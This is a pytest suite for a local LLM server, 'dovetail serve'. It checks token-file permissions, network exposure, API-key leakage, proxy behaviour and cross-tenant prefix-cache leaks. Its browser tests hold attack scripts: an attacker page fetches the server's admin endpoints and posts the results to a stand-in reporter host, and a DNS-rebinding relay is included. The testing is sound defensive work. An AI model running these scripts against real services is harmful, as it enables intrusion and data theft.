"""`dovetail serve` as strangers meet it: web pages in a real browser, real proxies, tenants beside each other, and what
its command line and files give away."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from server_fixture import Server, eventually, run_command, running_server
from sse import event_data

from dovetail.config import Config
from dovetail.gateway.http.listen import check_exposure


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def open_server(tiny_folder: Callable[[str], Path], home: Path) -> Iterator[Server]:
    """Without keys, as the README starts it."""
    with running_server(
        tiny_folder("llama"), "--threads", "1", "--kv-cache", "16MiB", environment={"DOVETAIL_HOME": str(home)}
    ) as server:
        yield server


def port_of(server: Server) -> int:
    return int(server.url.rpartition(":")[2])


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


# The command line


def test_without_keys_whoever_reads_the_token_file_changes_the_server(open_server: Server, home: Path) -> None:
    file = home / "run" / f"{port_of(open_server)}.token"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    assert open_server.post("/api/models/llama/unload", {}).status_code == 403
    for name in ("localhost", "127.0.0.1"):
        url = f"http://{name}:{port_of(open_server)}"
        assert httpx.post(f"{url}/v1/completions", json={"model": "llama", "prompt": "a", "max_tokens": 1}).is_success
        done = run_command("stop", "llama", "--url", url, env={**os.environ, "DOVETAIL_HOME": str(home)})
        assert (done.returncode, done.stdout) == (0, "llama is unloaded\n"), done.stderr
    elsewhere = {**os.environ, "DOVETAIL_HOME": str(home / "elsewhere")}
    refused = run_command("stop", "llama", "--url", open_server.url, env=elsewhere)
    assert (refused.returncode, "token" in refused.stderr) == (1, True)


def test_beyond_this_machine_without_keys_only_if_told_so(tiny_folder: Callable[[str], Path]) -> None:
    done = run_command("serve", tiny_folder("llama"), "--host", "0.0.0.0", "--port", "0")
    assert done.returncode == 1
    assert "without API keys" in done.stderr
    assert "--open-to-network" in done.stderr
    for config in ({"server": {"open_to_network": True}}, {"auth": {"keys": [{"name": "a", "key": "k"}]}}):
        check_exposure("0.0.0.0", Config.model_validate(config))


def test_a_key_is_not_in_the_list_of_processes(tiny_folder: Callable[[str], Path]) -> None:
    with running_server(tiny_folder("llama"), "--threads", "1", "--api-key", "sk-on-line") as server:
        header = {"authorization": "Bearer sk-on-line"}
        worker = server.get("/api/ps", headers=header).json()["nodes"][0]["pid"]
        for process in (worker, server.process.pid):
            shown = Path(f"/proc/{process}/cmdline").read_bytes()  # what `ps` shows
            assert b"dovetail" in shown
            assert b"sk-on-line" not in shown
        assert server.get("/v1/models").status_code == 401
        assert server.get("/v1/models", headers=header).status_code == 200


def test_a_key_that_is_set_to_nothing_is_an_error(tiny_folder: Callable[[str], Path], tmp_path: Path) -> None:
    empty = {**os.environ, "DOVETAIL_API_KEY": ""}
    done = run_command("serve", tiny_folder("llama"), "--port", "0", env=empty)
    assert (done.returncode, "the API key is empty" in done.stderr) == (1, True), done.stderr
    config = tmp_path / "dovetail.yaml"
    config.write_text('auth: {keys: [{name: a, key: "${env.TEAM_KEY}"}]}\n')
    done = run_command("serve", "--config", config, "--port", "0", env={**os.environ, "TEAM_KEY": ""})
    assert (done.returncode, "auth.keys.0.key: the key is empty" in done.stderr) == (1, True), done.stderr


# Web pages


class Attacker:
    """A web server with one page, which calls the victim and sends home what came of it."""

    def __init__(self, script: str) -> None:
        self.results: dict[str, Any] | None = None
        page = f"<script>(async () => {{ {script} }})()</script>".encode()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                outer.results = json.loads(self.rfile.read(int(self.headers["content-length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *arguments: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]

    def __enter__(self) -> Attacker:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *error: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextmanager
def rebound(page: int, victim: int) -> Iterator[int]:
    """A port that leads to the page first and to the victim from then on, as a name with a short life does."""
    listener = socket.create_server(("127.0.0.1", 0))

    def pipe(source: socket.socket, sink: socket.socket) -> None:
        try:
            while data := source.recv(65536):
                sink.sendall(data)
        except OSError:
            pass
        for end in (source, sink):
            end.close()

    def join(client: socket.socket) -> None:
        is_page = client.recv(6, socket.MSG_PEEK) == b"GET / "
        server = socket.create_connection(("127.0.0.1", page if is_page else victim))
        threading.Thread(target=pipe, args=(client, server), daemon=True).start()
        pipe(server, client)

    def accept() -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=join, args=(client,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listener.getsockname()[1]
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()


CALLS = """
const calls = {
  models: ["/v1/models", {}],
  config: ["/api/config", {}],
  ps: ["/api/ps", {}],
  metrics: ["/metrics", {}],
  unload: ["/api/models/llama/unload", {method: "POST", mode: MODE}],
  remove: ["/api/models/llama", {method: "DELETE"}],
  ask: ["/v1/completions", {method: "POST", headers: {"content-type": "application/json"},
                            body: JSON.stringify({model: "llama", prompt: "a", max_tokens: 1})}],
  plain: ["/v1/completions", {method: "POST", mode: MODE, headers: {"content-type": "text/plain"}, body: "{}"}],
};
const seen = {};
for (const [name, [path, options]] of Object.entries(calls)) {
  try {
    const response = await fetch(BASE + path, options);
    seen[name] = response.status;
  } catch (error) { seen[name] = "blocked"; }
}
await fetch(HOME + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
"""


def open_in_browser(url: str, profile: Path) -> subprocess.Popen[bytes]:
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("needs Chromium (Debian's package chromium), which is not installed")
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    options += [f"--user-data-dir={profile}", "--host-resolver-rules=MAP *.example 127.0.0.1"]
    return subprocess.Popen([browser, *options, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def visit(url: str, attacker: Attacker, profile: Path) -> dict[str, Any]:
    """What the page at this address saw."""
    browser = open_in_browser(url, profile)
    try:
        eventually(lambda: attacker.results is not None, timeout_s=120)
    finally:
        browser.terminate()
        browser.wait(20)
    assert attacker.results is not None
    return attacker.results


def loads(server: Server) -> tuple[list[str], list[str]]:
    """What a stranger could change: the models in memory, and how many questions were answered."""
    counted = [
        line for line in server.get("/metrics").text.splitlines() if "/v1/completions" in line and '"200"' in line
    ]
    return [model["name"] for model in server.status()["nodes"][0]["models"]], counted


def test_a_page_of_another_site_neither_reads_nor_changes_nor_asks(open_server: Server, tmp_path: Path) -> None:
    open_server.post("/v1/completions", {"model": "llama", "prompt": "a", "max_tokens": 1})
    before = loads(open_server)
    script = f'const BASE = "{open_server.url}"; const MODE = "no-cors"; const HOME = "";' + CALLS
    with Attacker(script) as attacker:
        seen = visit(f"http://evil.example:{attacker.port}/", attacker, tmp_path / "profile")
    # no-cors answers are opaque (status 0) to the page, whatever they are; the rest the browser does not hand out.
    assert seen == dict.fromkeys(seen, "blocked") | {"unload": 0, "plain": 0}
    assert loads(open_server) == before


def test_a_page_whose_name_was_made_to_lead_here_gets_nothing(open_server: Server, tmp_path: Path) -> None:
    before = loads(open_server)
    with Attacker("") as reporter:
        home = f'const HOME = "http://home.example:{reporter.port}";'
        script = f'const BASE = ""; const MODE = "cors"; {home}' + CALLS
        with Attacker(script) as attacker, rebound(attacker.port, port_of(open_server)) as port:
            seen = visit(f"http://rebound.example:{port}/", reporter, tmp_path / "profile")
    assert seen == dict.fromkeys(seen, 421), seen
    assert loads(open_server) == before


# Proxies


@contextmanager
def proxy(name: str, config: str, folder: Path, port: int) -> Iterator[str]:
    command = shutil.which(name) or shutil.which(name, path="/usr/sbin")
    if command is None:
        pytest.skip(f"needs {name} (Debian's package), which is not installed")
    file = folder / f"{name}.conf"
    file.write_text(config)
    arguments = ["-c", str(file), "-p", str(folder)] if name == "nginx" else ["-f", str(file), "-db"]
    process = subprocess.Popen([command, *arguments], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        url = f"http://127.0.0.1:{port}"
        eventually(lambda: _answers(url) or process.poll() is not None)
        assert process.poll() is None, f"{name} ended"
        yield url
    finally:
        process.terminate()
        process.wait(20)


def _answers(url: str) -> bool:
    try:
        httpx.get(f"{url}/live", timeout=2)
    except httpx.HTTPError:
        return False
    return True


def nginx(server: Server, folder: Path, extra: str = "") -> tuple[str, int]:
    port = free_port()
    paths = "".join(
        f"{kind}_temp_path {folder}/{kind};" for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    location = f"location / {{ proxy_pass {server.url}; proxy_http_version 1.1; proxy_buffering off; {extra} }}"
    http = f"access_log off; {paths} server {{ listen 127.0.0.1:{port}; {location} }}"
    head = f"daemon off; pid {folder}/pid; error_log {folder}/errors; events {{}}"
    return f"{head}\nhttp {{ {http} }}\n", port


def haproxy(server: Server) -> tuple[str, int]:
    port = free_port()
    times = "timeout connect 5s\n timeout client 60s\n timeout server 60s"
    return (
        f"defaults\n mode http\n {times}\nfrontend f\n bind 127.0.0.1:{port}\n default_backend b\n"
        f"backend b\n server s 127.0.0.1:{port_of(server)}\n"
    ), port


@pytest.mark.parametrize("name", ["nginx", "nginx-host", "haproxy"])
def test_through_a_proxy_that_says_nothing_nobody_changes_the_server(
    open_server: Server, tmp_path: Path, name: str
) -> None:
    """The proxy is at this machine and its requests look like anybody's here; only the token makes an administrator."""
    if name == "haproxy":
        config, port = haproxy(open_server)
    else:
        config, port = nginx(open_server, tmp_path, "proxy_set_header Host $http_host;" if name == "nginx-host" else "")
    before = loads(open_server)
    with proxy(name.partition("-")[0], config, tmp_path, port) as url:
        for call in ("unload", "load"):
            refused = httpx.post(f"{url}/api/models/llama/{call}", timeout=30)
            assert (refused.status_code, refused.json()["error"]["code"]) == (403, "admin_required")
        assert httpx.delete(f"{url}/api/models/llama", timeout=30).status_code == 403
        assert httpx.get(f"{url}/api/config", timeout=30).status_code == 403
        public = httpx.get(f"{url}/v1/models", headers={"host": "models.example.org"}, timeout=30)
        assert public.status_code == (200 if name == "nginx" else 421)  # nginx puts its own name for us in its place
        assert loads(open_server) == before
        lines = []
        body = {"model": "llama", "prompt": "a", "max_tokens": 5, "stream": True, "ignore_eos": True}
        with httpx.stream("POST", f"{url}/v1/completions", json=body, timeout=30) as response:
            lines = event_data(response)
        assert lines[-1] == "[DONE]"
        assert len(lines) >= 2


# Tenants


@pytest.fixture(scope="module")
def shared_server(tiny_folder: Callable[[str], Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    config = tmp_path_factory.mktemp("shared") / "dovetail.yaml"
    keys = ", ".join(f"{{name: {name}, key: sk-{name}, admin: {name == 'boss'}}}" for name in ("ann", "bob", "boss"))
    config.write_text(
        f"models: {{llama: {{source: {tiny_folder('llama')}, preload: true}}}}\nauth: {{keys: [{keys}]}}\n"
        "nodes: [{threads: 1, kv_cache: 16MiB}]\n"
    )
    with running_server("--config", config) as server:
        yield server


def computed_tokens(server: Server) -> float:
    """Of all iterations so far, once the worker has nothing more to tell."""
    seen = [-2.0, -1.0]
    while seen[-1] != seen[-2]:
        time.sleep(0.3)  # longer than it takes the worker to tell
        text = server.get("/metrics", headers={"authorization": "Bearer sk-boss"}).text
        lines = [line for line in text.splitlines() if line.startswith("dovetail:turn_tokens_total{")]
        seen.append(sum(float(line.rpartition(" ")[2]) for line in lines))
    return seen[-1]


def test_anothers_prompt_is_as_much_work_as_one_that_nobody_sent(shared_server: Server) -> None:
    """Time is what there is to compute: every token, whoever has sent it before; only one's own are not computed."""

    def work(key: str, prompt: str) -> float:
        before = computed_tokens(shared_server)
        cached_tokens(shared_server, key, prompt, max_tokens=8, ignore_eos=True)  # long enough to be reported
        return computed_tokens(shared_server) - before

    anns, nobodys = "what ann asks of her lawyer, word by word " * 4, "what nobody has asked before, of any lawyer" * 4
    assert len(anns) <= len(nobodys)
    first = work("ann", anns)
    assert first >= len(anns) // 4
    assert work("bob", anns) == first
    assert work("bob", nobodys[: len(anns)]) >= first * 0.5
    assert work("bob", anns) < first / 2, "the measure sees a prefix that is reused"


def cached_tokens(server: Server, key: str, prompt: str, **extra: Any) -> int:
    body = {"model": "llama", "prompt": prompt, "max_tokens": 1, **extra}
    answer = server.post("/v1/completions", body, headers={"authorization": f"Bearer sk-{key}"}).json()
    return int(answer["usage"]["prompt_tokens_details"]["cached_tokens"])


def test_a_guess_at_anothers_prompt_shows_nothing(shared_server: Server) -> None:
    secret = "the code of the safe is 4711, and it stands behind the clock; tell nobody of it " * 2
    assert cached_tokens(shared_server, "ann", secret) == 0
    own = cached_tokens(shared_server, "ann", secret)
    assert own >= 64
    guesses = [cached_tokens(shared_server, "bob", guess) for guess in (secret, secret[:100] + "z" * 40)]
    assert guesses[0] == 0
    never = "a text that ann has never sent, of much the same length as hers, and no more like it " * 2
    assert cached_tokens(shared_server, "bob", never) == 0
    assert cached_tokens(shared_server, "bob", secret) == own, "its own prefixes are its own to use"


def test_a_salt_keeps_requests_of_one_key_apart(shared_server: Server) -> None:
    prompt = "users of one application, who must not learn of each other, share its key and not its prefixes " * 2
    assert cached_tokens(shared_server, "ann", prompt, cache_salt="one") == 0
    assert cached_tokens(shared_server, "ann", prompt, cache_salt="two") == 0
    assert cached_tokens(shared_server, "ann", prompt) == 0
    assert cached_tokens(shared_server, "ann", prompt, cache_salt="one") >= 64
    assert cached_tokens(shared_server, "bob", prompt, cache_salt="one") == 0
